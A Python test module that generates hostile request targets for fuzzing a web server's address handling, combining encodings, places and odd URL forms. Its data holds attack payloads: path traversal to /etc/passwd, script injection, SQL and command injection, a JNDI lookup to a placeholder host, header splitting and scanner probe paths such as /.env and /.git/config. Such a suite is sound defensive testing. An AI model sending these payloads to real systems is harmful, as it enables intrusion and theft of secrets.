"""Hostile addresses: encodings of every kind, put into every place of an address."""

from collections.abc import Callable, Iterator, Mapping

from tests.hostile.case import MARK, Case, write
from tests.serving.shown import LISTING, ONE, TABLE

PLACES = {
    "root": b"/%s",
    "page": b"/en/%s/",
    "listing": b"/{one}/resources/%s/",
    "listing without slash": b"/{two}/resources/%s",
    "table": b"/tables/%s.csv",
}
PIECES = {
    "null": b"\x00",
    "null in a name": LISTING.encode() + b"\x00{mark}",
    "bell": b"\x07",
    "escape": b"\x1b[31m",
    "delete": b"\x7f",
    "tab": b"\t",
    "vertical tab": b"\x0b",
    "next line": b"\xc2\x85",
    "line separator": b"\xe2\x80\xa8",
    "line feed and header": b"\nX-Mark: {mark}",
    "line end and header": b"\r\nX-Mark: {mark}",
    "line end and answer": b"\r\n\r\nHTTP/1.1 200 OK\r\n\r\n{mark}",
    "bidi override": b"\xe2\x80\xae{mark}",
    "bidi isolate": b"\xe2\x81\xa6{mark}",
    "arabic mark": b"\xd8\x9c{mark}",
    "zero width": b"\xe2\x80\x8b\xef\xbb\xbf",
    "lone high surrogate": b"\xed\xa0\x80",
    "lone low surrogate": b"\xed\xbf\xbf",
    "surrogate pair in six bytes": b"\xed\xa0\xbd\xed\xb8\x80",
    "overlong slash": b"\xc0\xaf",
    "overlong slash in three bytes": b"\xe0\x80\xaf",
    "overlong slash in four bytes": b"\xf0\x80\x80\xaf",
    "overlong dot": b"\xc0\xae\xc0\xae",
    "overlong null": b"\xc0\x80",
    "beyond unicode": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "bytes that begin nothing": b"\xff\xfe",
    "cut off": b"\xe2\x80",
    "noncharacter": b"\xef\xbf\xbf",
    "private use": b"\xee\x80\x80",
    "combining flood": b"a" + b"\xcc\x81" * 200,
    "emoji": b"\xf0\x9f\x98\x80",
    "full width slash": b"\xef\xbc\x8f",
    "full width dots": b"\xef\xbc\x8e\xef\xbc\x8e",
    "up": b"../../../../etc/passwd",
    "up on windows": b"..\\..\\..\\windows\\win.ini",
    "here": b"././.",
    "parameter": b";{mark}=1",
    "markup": b"<script>alert('{mark}')</script>",
    "attribute": b"'\"><svg/onload=alert({mark})>",
    "template": b"{{7*7}}{mark}",
    "template code": b"{% print('{mark}') %}",
    "format": b"%s%n{mark}",
    "dollar": b"${jndi:ldap://{mark}.example/a}",
    "statement": b"' OR 1=1--{mark}",
    "command": b"|id;{mark}`id`",
    "scheme": b"javascript:alert('{mark}')",
    "other site": b"//{mark}.example/",
    "other site backslash": b"\\\\{mark}.example",
    "at": b"@{mark}.example",
    "brackets": b"[::1]{mark}",
    "hash": b"#{mark}",
    "plus": b"a+b+{mark}",
    "spaces": b"a b {mark}",
    "long": b"{mark}" * 100,
    "too long": b"{mark}" * 500,
    "slashes": b"/" * 500 + b"{mark}",
    "percent alone": b"%",
    "percent and a digit": b"%2",
    "percent and letters": b"%zz%u202e",
    "percent of unicode": b"%uD800%u0000",
}


def percent(piece: bytes) -> bytes:
    """Return every byte as percent and two digits; of what is long, the first bytes only."""
    return b"".join(b"%%%02x" % byte for byte in piece[:200])


def percent_twice(piece: bytes) -> bytes:
    """Return what is a percent encoding again after it has been decoded once."""
    return percent(piece).replace(b"%", b"%25")


WAYS: Mapping[str, Callable[[bytes], bytes]] = {
    "as it stands": bytes,
    "percent": percent,
    "twice percent": percent_twice,
}
KNOWN = (
    b"/.env",
    b"/.git/config",
    b"/.git/HEAD",
    b"/.htaccess",
    b"/.well-known/security.txt",
    b"/admin/",
    b"/wp-login.php",
    b"/wp-admin/setup-config.php",
    b"/xmlrpc.php",
    b"/phpinfo.php",
    b"/server-status",
    b"/actuator/env",
    b"/cgi-bin/test.cgi",
    b"/console",
    b"/debug/pprof/",
    b"/static/site.css",
    b"/static/../webapp/settings.py",
    b"/robots.txt",
    b"/favicon.ico",
    b"/sitemap.xml",
    b"/sw.js",
    b"/manifest.json",
    b"/crossdomain.xml",
    b"/api/v1/users",
    b"/graphql",
    b"/EN/",
    b"/En/numbers/",
    b"/en_US/",
    b"/en-US/",
    b"/{one};x=1/",
    b"/{one}//",
    b"//{one}/",
    b"/{one}/numbers//",
    b"/{one}/./numbers/",
    b"/{one}/x/../numbers/",
    b"/{one}%2fnumbers%2f",
    b"/" + percent(ONE.encode()) + b"/",
    b"/%2e%2e/{one}/",
    b"/{one}/resources/" + LISTING.upper().encode() + b"/",
    b"/{one}/resources/{listing}%20/",
    b"/{one}/resources/{listing}/x/",
    b"/tables/",
    b"/tables/.csv",
    b"/tables/{series}.csv/",
    TABLE.upper().encode(),
    b"/tables/{series}.csv%00",
    b"/tables/{series}",
    b"/tables//{series}.csv",
)
FORMS = {
    "absolute": b"http://{mark}.example/{one}/",
    "absolute and secure": b"https://{mark}.example/{one}/numbers",
    "absolute with a port": b"http://{mark}.example:99999/{one}/",
    "absolute with a name": b"http://user:{mark}@site.example/{one}/",
    "absolute without a path": b"http://{mark}.example",
    "absolute and empty": b"http:///{mark}",
    "absolute, six": b"http://[::1%25{mark}]/{one}/",
    "absolute, six left open": b"http://[::1/{mark}",
    "other scheme": b"gopher://{mark}.example/{one}/",
    "file": b"file:///etc/passwd?{mark}",
    "no scheme": b"//{mark}.example/{one}",
    "three slashes": b"///{mark}.example/{one}",
    "authority": b"{mark}.example:443",
    "star": b"*",
    "no slash": b"so/{mark}",
    "question only": b"?{mark}",
    "hash only": b"#{mark}",
    "backslash": b"\\so\\{mark}",
    "dots": b"../{mark}",
    "empty": b"",
}


def targets() -> Iterator[Case]:
    """Yield each piece, in each encoding, in each place; known paths of scanners; odd forms."""
    for piece_name, piece in PIECES.items():
        for way_name, encode in WAYS.items():
            for place_name, place in PLACES.items():
                # The mark stays readable, so that an echo of the decoded address is seen too.
                encoded = MARK.join(encode(part) for part in piece.split(MARK))
                name = f"target: {piece_name}, {way_name}, as {place_name}"
                yield write(name, place.replace(b"%s", encoded))
    for path in KNOWN:
        yield write(f"target: {path.decode()}", path)
        yield write(f"target: {path.decode()}, asked", path + b"?{mark}")
    for form_name, form in FORMS.items():
        for method in ("GET", "HEAD", "OPTIONS", "POST", "CONNECT"):
            yield write(f"target: {form_name}, {method}", form, method=method)
